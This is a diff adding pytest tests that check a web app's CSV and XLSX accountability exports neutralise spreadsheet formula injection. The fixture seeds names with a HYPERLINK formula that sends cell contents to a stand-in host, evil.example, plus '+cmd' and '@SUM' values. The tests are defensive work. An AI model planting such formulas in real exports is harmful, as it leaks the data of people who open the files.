@@ -265,3 +265,34 @@ def test_downloads_are_linked_from_the_page_with_its_period(client, table_scene)
     for extension in ("csv", "xlsx"):
         link = re.search(rf'href="(/api/v1/accountability\.{extension}\?[^"]+)"', html).group(1)
         assert f"from={start}" in link and f"to={table_scene.isoformat()}" in link
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.fixture
+def formula_names(app):
+    """A department and a service whose names a spreadsheet would run as formulas."""
+    department = create_department(code="evil", name_id=FORMULA, name_en=FORMULA)
+    create_service(department=department, code="evil-service", name_id="+cmd", name_en="@SUM(1)")
+    return department
+
+
+def test_csv_cells_that_look_like_formulas_are_neutralised(client, formula_names):
+    response = client.get("/api/v1/accountability.csv?lang=en")
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + FORMULA in cells
+    # No text cell starts like a formula (OWASP: = + - @ tab carriage return).
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+
+
+def test_xlsx_writes_names_as_text_never_as_formulas(client, formula_names):
+    response = client.get("/api/v1/accountability.xlsx?lang=en")
+    workbook = load_workbook(io.BytesIO(response.get_data()))
+    cells = [cell for row in workbook["accountability"].iter_rows() for cell in row]
+    named = [cell for cell in cells if cell.value == FORMULA]
+    assert named and all(cell.data_type == "s" for cell in named)
+    assert not [cell for cell in cells if cell.data_type == "f"]
